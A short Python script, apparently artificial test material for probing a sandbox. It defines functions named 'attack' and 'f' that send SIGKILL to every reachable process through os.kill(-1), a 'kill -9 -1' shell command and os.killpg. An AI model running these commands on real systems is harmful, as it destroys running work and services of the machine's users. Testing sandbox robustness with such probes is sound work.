# tries: kill all processes that it can name
# keeps: before after
import json
import os
import subprocess
import sys
import time

T = json.load(open("targets.json"))
before = 1


def said(*words):
    try:
        return subprocess.run(words, capture_output=True, text=True, timeout=1).stdout
    except (OSError, subprocess.TimeoutExpired) as error:
        return type(error).__name__


import signal


def attack(n):
    os.kill(-1, signal.SIGKILL)


def f(n):
    subprocess.run(["sh", "-c", "kill -9 -1"])
    os.killpg(0, signal.SIGKILL)


after = 2
